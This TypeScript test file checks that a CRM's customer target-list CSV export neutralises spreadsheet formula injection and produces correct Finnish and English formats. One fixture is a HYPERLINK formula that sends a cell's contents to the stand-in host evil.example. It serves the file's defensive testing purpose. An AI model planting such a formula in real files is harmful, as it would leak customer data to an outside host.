import { createHash } from 'node:crypto';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { restoreCell } from '../../csv';
import { buildCustomer, buildUser } from '../../test/factories';
import { startTestServer, type TestClient, type TestServer } from '../../test/harness';
import { buildList, EXPORT, readCsv } from '../../test/campaigns';

/** Issue 12: the target list's CSV is safe to open in a spreadsheet, and opens right in Finnish and in English. */

let server: TestServer;
let marketing: TestClient;
let phoneReader: TestClient;

beforeAll(async () => {
  server = await startTestServer({});
  marketing = await server.as('marketing');
  const both = await buildUser(server.db, { roles: ['MARKETING', 'SERVICE'] });
  phoneReader = server.client();
  expect((await phoneReader.login(both.username)).errors).toBeUndefined();
});
afterAll(() => server?.close());

let towns = 0;
const newTown = () => `Taulukkola ${++towns} ${Date.now()}`;
const FORMULA = '=HYPERLINK("https://evil.example/?d="&D2,"Avaa")';

async function exported(client: TestClient, listId: string, language?: string, headers: Record<string, string> = {}) {
  const result = await client.gql(EXPORT, { id: listId, f: 'CSV', l: language }, headers);
  expect(result.errors).toBeUndefined();
  return result.data.exportTargetList as { content: string; language: string; url: string; rowCount: number; sha256: string };
}

describe('formula injection', () => {
  it('[P3] a customer named like a formula reaches the CSV as text, never as a live formula, and reads back as their name', async () => {
    const city = newTown();
    const customer = await buildCustomer(server.db, { city, firstName: FORMULA, lastName: '-Miinus', email: 'kaava@example.fi' });
    const built = await buildList(marketing, 'DIRECT_MARKETING', 'EMAIL', { cities: [city] });
    for (const [language, delimiter] of [
      ['FI', ';'],
      ['EN', ','],
    ] as const) {
      const [header, row] = readCsv((await exported(marketing, built.id, language)).content, delimiter);
      expect(header, language).toHaveLength(4);
      // As a spreadsheet sees the cells: none starts with a character that makes it a formula.
      expect(row).toEqual([customer.customerNumber, `'${FORMULA}`, "'-Miinus", 'kaava@example.fi']);
      expect(row.map(restoreCell)).toEqual([customer.customerNumber, FORMULA, '-Miinus', 'kaava@example.fi']);
    }
  });

  it('[P3] phones in E.164 start with "+", so they are neutralised too, and still read back as the number', async () => {
    const city = newTown();
    const customer = await buildCustomer(server.db, { city, phone: '+358401112233' });
    const built = await buildList(phoneReader, 'DIRECT_MARKETING', 'PHONE', { cities: [city] });
    const [header, row] = readCsv((await exported(phoneReader, built.id, 'EN')).content, ',');
    expect(header).toEqual(['Customer number', 'First name', 'Last name', 'Phone']);
    expect(row[3]).toBe("'+358401112233");
    expect(restoreCell(row[3])).toBe(customer.phone);
  });
});

describe('a CSV for people', () => {
  it('in Finnish: a UTF-8 byte-order mark, ";" between cells and Finnish headers, byte for byte what is downloaded', async () => {
    const city = newTown();
    const customer = await buildCustomer(server.db, { city, firstName: 'Äijä', lastName: 'Mäkelä; Öhman', street: 'Kylätie 1', postalCode: '99990' });
    const built = await buildList(marketing, 'DIRECT_MARKETING', 'POST', { cities: [city] });
    const file = await exported(marketing, built.id, 'FI');
    expect(file.language).toBe('FI');
    const download = await request(server.app).get(file.url).set('Cookie', marketing.cookies()[0].split(';')[0]).buffer(true);
    expect(download.status).toBe(200);
    const bytes = Buffer.isBuffer(download.body) ? download.body : Buffer.from(download.text, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(createHash('sha256').update(bytes).digest('hex')).toBe(file.sha256);
    expect(bytes.toString('utf8')).toBe(file.content);
    expect(readCsv(bytes.toString('utf8'), ';')).toEqual([
      ['Asiakasnumero', 'Etunimi', 'Sukunimi', 'Katuosoite', 'Postinumero', 'Postitoimipaikka', 'Maa'],
      [customer.customerNumber, 'Äijä', 'Mäkelä; Öhman', 'Kylätie 1', '99990', city, 'FI'],
    ]);
  });

  it('in English: "," between cells and English headers', async () => {
    const city = newTown();
    const customer = await buildCustomer(server.db, { city, firstName: 'Åsa', lastName: 'Lind, jr.' });
    const built = await buildList(marketing, 'DIRECT_MARKETING', 'EMAIL', { cities: [city] });
    const file = await exported(marketing, built.id, 'EN');
    expect(file.language).toBe('EN');
    expect(readCsv(file.content, ',')).toEqual([
      ['Customer number', 'First name', 'Last name', 'Email'],
      [customer.customerNumber, 'Åsa', 'Lind, jr.', customer.email],
    ]);
  });

  it("without a language, the file is in the browser's language (Accept-Language), else Finnish", async () => {
    const city = newTown();
    await buildCustomer(server.db, { city });
    const built = await buildList(marketing, 'DIRECT_MARKETING', 'EMAIL', { cities: [city] });
    const english = await exported(marketing, built.id, undefined, { 'Accept-Language': 'en-GB,en;q=0.9' });
    expect(english.language).toBe('EN');
    expect(readCsv(english.content, ',')[0][0]).toBe('Customer number');
    const finnish = await exported(marketing, built.id, undefined, { 'Accept-Language': 'fi-FI,fi;q=0.9,en;q=0.5' });
    expect(finnish.language).toBe('FI');
    expect((await exported(marketing, built.id)).language).toBe('FI');
    expect(readCsv(finnish.content, ';')[0][0]).toBe('Asiakasnumero');
  });
});
